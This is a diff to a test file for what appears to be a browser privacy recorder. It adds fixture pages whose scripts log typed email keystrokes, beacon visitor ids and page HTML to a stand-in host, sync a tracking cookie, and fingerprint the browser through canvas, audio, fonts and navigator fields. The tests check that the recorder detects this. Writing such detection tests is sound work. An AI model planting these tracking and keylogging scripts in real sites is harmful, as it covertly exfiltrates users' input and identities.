@@ -1,3 +1,4 @@
+import { createHash } from 'node:crypto';
 import { once } from 'node:events';
 import type { IncomingMessage, Server, ServerResponse } from 'node:http';
 import { createServer } from 'node:http';
@@ -43,17 +44,57 @@ const pages: { readonly [path: string]: (port: number) => string } = {
     addEventListener('visibilitychange', () => { if (document.visibilityState === 'hidden') navigator.sendBeacon('/hidden'); });
     addEventListener('pagehide', () => { store('on_leaving'); navigator.sendBeacon('/left'); });
   </script><iframe srcdoc="<script>setTimeout(() => { document.cookie = 'in_frame=1; path=/'; }, 5000)</script>"></iframe>`,
+  '/measures': () =>
+    '<canvas id="chart" width="200" height="100"></canvas><script src="/chart.js"></script><script src="/measure.js"></script>',
+  '/shares': (
+    number,
+  ) => `<p>Nobody else needs to be told these words of the page.</p><input name="email"><img alt="" src="http://other.localhost:${number}/sets-id.gif">
+    <script>
+      name = 'a name for the tab';
+      localStorage.setItem('visitor', '83a7f04c2b9d');
+      const other = 'http://other.localhost:${number}';
+      navigator.sendBeacon(other + '/body', btoa(JSON.stringify({ id: localStorage.getItem('visitor') })));
+      new Image().src = 'http://third.localhost:${number}/match?partner=5c1e77a0b4f2d9';
+      document.querySelector('input').addEventListener('input', (event) => new Image().src = other + '/keys?k=' + btoa(event.target.value));
+      fetch(other + '/replay', { method: 'POST', mode: 'no-cors', body: document.body.innerHTML });
+      const socket = new WebSocket('ws://other.localhost:${number}/socket');
+      new Worker('/worker.js');
+      navigator.serviceWorker.register('/service.js');
+    </script>`,
   '/opaque': (number) => `<img src="http://other.localhost:${number}/page-as-image">`,
 };
 
 const scripts: { readonly [path: string]: (port: number) => string } = {
   '/set.js': () =>
     "\n\n  document.cookie = 'from_script=secret-value; path=/; max-age=600';\n  cookieStore.set('from_store', 'secret-value');\n  localStorage.setItem('kept', 'secret-value');",
+  '/worker.js': () => "fetch('/from-worker'); indexedDB.open('of_worker');",
+  '/service.js': () => "fetch('/from-service'); oninstall = (event) => event.waitUntil(caches.open('of_service'));",
+  '/chart.js': () => `
+    const chart = document.querySelector('#chart');
+    const pen = chart.getContext('2d');
+    pen.font = '12px sans-serif';
+    for (const label of ['January', 'February', 'March', 'Visitors', '0123456789']) pen.fillText(label, 10, 10, pen.measureText(label).width);
+    chart.toDataURL();`,
+  '/measure.js': () => `
+    const canvas = document.createElement('canvas');
+    const pen2 = canvas.getContext('2d');
+    pen2.fillText('Cwm fjordbank glyphs vext quiz', 2, 15);
+    canvas.toDataURL();
+    const span = document.body.appendChild(document.createElement('span'));
+    for (let index = 0; index < 30; index += 1) { span.style.fontFamily = 'Family' + index; span.offsetWidth; }
+    const audio = new OfflineAudioContext(1, 5000, 44100);
+    audio.createOscillator().connect(audio.destination);
+    audio.startRendering().then((buffer) => buffer.getChannelData(0));
+    for (const one of ['userAgent', 'platform', 'vendor', 'language', 'languages', 'hardwareConcurrency', 'deviceMemory', 'maxTouchPoints', 'plugins', 'doNotTrack', 'cookieEnabled']) navigator[one];
+    for (const one of ['width', 'height', 'colorDepth']) screen[one];
+    new Date().getTimezoneOffset();`,
   '/load.js': (number) => `\n  fetch('http://other.localhost:${number}/data', { mode: 'no-cors' });`,
   '/probe.js': () => `
     const setter = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').set;
     const globals = Object.getOwnPropertyNames(globalThis);
     document.title = JSON.stringify({ globals, name: setter.name, length: setter.length, native: /\\[native code\\]/.test(Function.prototype.toString.call(setter)),
+      agent: (() => { try { Object.getOwnPropertyDescriptor(Navigator.prototype, 'userAgent').get.call({}); } catch (error) { return error.stack.split('\\n').length; } })(),
+      draw: CanvasRenderingContext2D.prototype.fillText.name + CanvasRenderingContext2D.prototype.fillText.length,
       item: Storage.prototype.setItem.name + Storage.prototype.setItem.length + /\\[native code\\]/.test(Storage.prototype.setItem + '') });`,
 };
 
@@ -70,6 +111,8 @@ function answer(request: IncomingMessage, response: ServerResponse): void {
         'set-cookie': 'opaque=1; Path=/; Secure; SameSite=None',
       })
       .end('<p>');
+  } else if (path === '/sets-id.gif') {
+    response.writeHead(204, { 'set-cookie': 'uid=5c1e77a0b4f2d9; Path=/; Secure; SameSite=None' }).end();
   } else if (path === '/pixel.gif') {
     response.writeHead(200, { 'content-type': 'image/gif', 'set-cookie': 'pixel=1; Path=/; Secure; SameSite=None; Max-Age=600' }).end();
   } else if (path === '/guarded') {
@@ -91,6 +134,15 @@ function answer(request: IncomingMessage, response: ServerResponse): void {
 beforeAll(async () => {
   browser = await openBrowser();
   server = createServer(answer);
+  server.on('upgrade', (request, socket) => {
+    const accept = createHash('sha1')
+      .update(`${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`)
+      .digest('base64');
+    const cookie = 'Set-Cookie: shook=1; Path=/; Secure; SameSite=None';
+    socket.end(
+      `HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept}\r\n${cookie}\r\n\r\n`,
+    );
+  });
   server.listen(0, '127.0.0.1');
   await once(server, 'listening');
   const address = server.address();
@@ -244,6 +296,39 @@ test('A11 a cookie on a response that the page may not read is attributed too', 
   expect(evidence.snapshots.at(-1)?.cookies.map(({ name }) => name)).toContain('opaque');
   const write = evidence.cookieWrites.find(({ line }) => line.startsWith('opaque='));
   expect(write?.setter).toMatchObject({ kind: 'http-response', url: `http://other.localhost:${port}/page-as-image` });
+});
+
+test('A170 A171 A172 A175 A178 A179 values that go elsewhere, words typed and read, beacons, workers and sockets are told', async () => {
+  const options = { browser, state: 'S0', locale: 'en', budget: 30_000, settling, stays: true, types: true } as const;
+  const visitor = await createVisitor(options);
+  expect(await visitor.open(`http://site.localhost:${port}/shares`)).toBe(true);
+  const evidence = await visitor.leave();
+  expect(visitor.problems).toEqual([]);
+  const leaks = (evidence.leaks ?? []).map(
+    ({ owner, to, through, form, isSync }) => `${owner.kind} ${owner.name} ${to} ${through} ${form} ${isSync}`,
+  );
+  expect(leaks).toContain('local visitor other.localhost body base64 false');
+  expect(leaks).toContain('cookie uid third.localhost url plain true');
+  expect(leaks).toContain('typed email other.localhost url base64 false');
+  expect(leaks).toContain('page text other.localhost body plain false');
+  expect(evidence.leaks?.find(({ owner }) => owner.name === 'uid')?.initiator?.url).toBe(`http://site.localhost:${port}/shares`);
+  expect(evidence.beacons?.map(({ kind, url }) => `${kind} ${new URL(url).pathname}`)).toEqual(
+    expect.arrayContaining(['beacon /body', 'pixel /sets-id.gif']),
+  );
+  expect(evidence.tabNames?.[0]).toMatchObject({ origin: `http://site.localhost:${port}`, length: 18 });
+  const paths = evidence.requests.map(({ url }) => new URL(url).pathname);
+  expect(paths).toEqual(expect.arrayContaining(['/from-worker', '/service.js', '/from-service', '/socket']));
+  const names = evidence.snapshots.flatMap((snapshot) => snapshot.names.map(({ store, name }) => `${store} ${name}`));
+  expect(names).toEqual(expect.arrayContaining(['indexed-db of_worker', 'service-worker /service.js', 'cache of_service']));
+  expect(evidence.snapshots.at(-1)?.cookies.map(({ name }) => name)).toContain('shook');
+  expect(evidence.requests.find(({ url }) => url.endsWith('/socket'))).toMatchObject({ as: 'connect' });
+  expect(JSON.stringify(evidence)).not.toMatch(/83a7f04c2b9d|Nobody else/);
+});
+
+test('A177 a script that measures is told by what it read, a chart is not', async () => {
+  const evidence = await visit('/measures');
+  const told = evidence.fingerprints?.map(({ kind, script }) => `${kind} ${new URL(script).pathname}`);
+  expect(told?.toSorted()).toEqual(['audio /measure.js', 'canvas /measure.js', 'entropy /measure.js', 'fonts /measure.js']);
 });
 
 test('A15 a page cannot tell the recorder by globals, names, lengths or texts of functions', async () => {
